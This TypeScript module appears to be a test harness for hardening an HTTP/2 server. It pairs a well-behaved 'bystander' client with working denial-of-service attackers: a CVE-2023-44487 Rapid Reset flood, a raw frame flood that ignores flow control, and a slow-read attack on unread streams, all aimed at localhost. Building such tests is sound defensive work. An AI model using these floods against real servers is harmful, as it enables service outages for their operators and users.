// Clients for the hardening tests: a well-behaved one that keeps sending requests and records what it
// got (the "other team" whose service must not notice the attack), and the HTTP/2 attackers.

import http2 from 'node:http2';
import net from 'node:net';

export interface BystanderResult {
  ok: number;
  failed: string[];
  latenciesMs: number[];
}

export function percentile(xs: number[], p: number): number {
  if (xs.length === 0) return 0;
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.ceil((p / 100) * s.length) - 1)]!;
}

function h2Get(session: http2.ClientHttp2Session, path: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = session.request({ ':path': path });
    let status = 0;
    req.on('response', (h) => (status = Number(h[':status'])));
    req.on('error', reject);
    req.resume();
    req.on('end', () => resolve(status));
    req.end();
  });
}

/**
 * Sequential h2 GETs on one connection (reconnecting if it is lost) until `until()` is true or `max`
 * requests were sent; every answer other than a 200, and every error, is a failure.
 */
export async function bystander(
  port: number,
  until: (r: BystanderResult) => boolean,
  max = 5000,
): Promise<BystanderResult> {
  const r: BystanderResult = { ok: 0, failed: [], latenciesMs: [] };
  let session: http2.ClientHttp2Session | null = null;
  for (let i = 0; i < max && !until(r); i++) {
    if (session === null || session.destroyed || session.closed) {
      session = http2.connect(`http://127.0.0.1:${port}`);
      session.on('error', () => {});
    }
    const t0 = performance.now();
    try {
      const status = await h2Get(session, '/bystander');
      r.latenciesMs.push(performance.now() - t0);
      if (status === 200) r.ok++;
      else r.failed.push(`status ${status}`);
    } catch (err) {
      r.failed.push((err as Error).message);
    }
    await new Promise((res) => setTimeout(res, 5));
  }
  session?.close();
  return r;
}

export interface ResetFloodResult {
  streams: number;
  connections: number;
  /** GOAWAY codes the server sent */
  goaways: number[];
}

/**
 * CVE-2023-44487: HEADERS immediately followed by RST_STREAM(CANCEL), in bursts, for `ms`; a new
 * connection whenever the server closes the current one. Bounded by time and by `maxStreams`.
 */
export async function rapidResetFlood(
  port: number,
  ms: number,
  maxStreams = 300_000,
): Promise<ResetFloodResult> {
  const r: ResetFloodResult = { streams: 0, connections: 0, goaways: [] };
  const end = Date.now() + ms;
  while (Date.now() < end && r.streams < maxStreams) {
    const s = http2.connect(`http://127.0.0.1:${port}`);
    r.connections++;
    s.on('error', () => {});
    s.on('goaway', (code: number) => r.goaways.push(code));
    await new Promise<void>((res) => {
      s.once('connect', () => res());
      s.once('close', () => res());
    });
    while (!s.destroyed && !s.closed && Date.now() < end && r.streams < maxStreams) {
      for (let i = 0; i < 50 && !s.destroyed && !s.closed; i++) {
        const req = s.request({ ':path': '/flood' });
        req.on('error', () => {});
        req.close(http2.constants.NGHTTP2_CANCEL);
        r.streams++;
      }
      await new Promise((res) => setImmediate(res));
    }
    s.destroy();
  }
  return r;
}

/** A raw TCP connection that has sent the client preface and an empty SETTINGS frame. */
export function rawH2(port: number): Promise<net.Socket> {
  return new Promise((resolve, reject) => {
    const sock = net.connect(port, '127.0.0.1', () => {
      sock.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      sock.write(frame(4, 0, 0, Buffer.alloc(0)));
      resolve(sock);
    });
    sock.on('error', reject);
  });
}

/** One HTTP/2 frame: 9-byte header (length, type, flags, stream id) and the payload. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

/** An HPACK literal header field without indexing, new name (no Huffman): enough to build blocks. */
export function hpackLiteral(name: string, value: string): Buffer {
  const n = Buffer.from(name);
  const v = Buffer.from(value);
  if (n.length > 126 || v.length > 126) throw new Error('hpackLiteral: short strings only');
  return Buffer.concat([Buffer.from([0x00, n.length]), n, Buffer.from([v.length]), v]);
}

/** A request header block for GET <path> (static-table indexed :method GET, :scheme http). */
export function requestBlock(path: string, authority = 'localhost'): Buffer {
  return Buffer.concat([
    Buffer.from([0x82, 0x86]), // :method GET, :scheme http
    Buffer.concat([Buffer.from([0x04, path.length]), Buffer.from(path)]), // :path, literal value
    Buffer.concat([Buffer.from([0x01, authority.length]), Buffer.from(authority)]), // :authority
  ]);
}

/** Resolves when the socket closes, with every byte the server sent. */
export function closedWithin(sock: net.Socket, ms: number): Promise<{ closed: boolean; bytes: Buffer }> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    sock.on('data', (c: Buffer) => chunks.push(c));
    const t = setTimeout(() => resolve({ closed: false, bytes: Buffer.concat(chunks) }), ms);
    sock.once('close', () => {
      clearTimeout(t);
      resolve({ closed: true, bytes: Buffer.concat(chunks) });
    });
  });
}

/** The error code of the first GOAWAY frame in the bytes a server sent, or null. */
export function goawayCode(bytes: Buffer): number | null {
  let off = 0;
  while (off + 9 <= bytes.length) {
    const len = bytes.readUIntBE(off, 3);
    if (bytes[off + 3] === 7 && off + 9 + 8 <= bytes.length) return bytes.readUInt32BE(off + 9 + 4);
    off += 9 + len;
  }
  return null;
}

export interface RawFloodResult {
  /** the server closed the connection within the wait */
  closed: boolean;
  /** the first GOAWAY's error code, null when none came */
  goaway: number | null;
  /** bytes of frames written before the server closed or the budget ran out */
  sent: number;
}

/**
 * Writes `frames` (already encoded) after the preface, in 64 KiB writes, up to `maxBytes` or until
 * the server closes; then waits up to `waitMs` for the close. Reads what the server sends but never
 * acts on it (no ACKs, no WINDOW_UPDATEs).
 */
export async function rawFlood(
  port: number,
  head: Buffer,
  repeat: Buffer,
  maxBytes: number,
  waitMs: number,
): Promise<RawFloodResult> {
  const sock = await rawH2(port);
  const seen = closedWithin(sock, waitMs + 10_000);
  let sent = 0;
  let closed = false;
  sock.once('close', () => (closed = true));
  sock.write(head);
  const chunk = Buffer.concat(
    Array.from({ length: Math.max(1, Math.floor(65536 / repeat.length)) }, () => repeat),
  );
  while (sent < maxBytes && !closed && !sock.destroyed) {
    if (!sock.write(chunk)) await new Promise((r) => setTimeout(r, 1));
    sent += chunk.length;
    if ((sent / chunk.length) % 16 === 0) await new Promise((r) => setImmediate(r));
  }
  const t = setTimeout(() => sock.destroy(), waitMs);
  const r = await seen;
  clearTimeout(t);
  return { closed: r.closed && closed, goaway: goawayCode(r.bytes), sent };
}

/**
 * Opens `count` GET streams on one connection and never reads their responses (no DATA consumed,
 * so no WINDOW_UPDATE); holds them `ms`, then closes. Streams over the server's concurrency limit
 * wait in the client, as a conforming client's do.
 */
export async function unreadStreams(
  port: number,
  ms: number,
  count = 2000,
): Promise<{ opened: number; answered: number }> {
  const s = http2.connect(`http://127.0.0.1:${port}`);
  s.on('error', () => {});
  let answered = 0;
  for (let i = 0; i < count; i++) {
    const req = s.request({ ':path': '/big' });
    req.on('error', () => {});
    req.on('response', () => answered++);
    req.pause();
  }
  await new Promise((r) => setTimeout(r, ms));
  s.destroy();
  return { opened: count, answered };
}
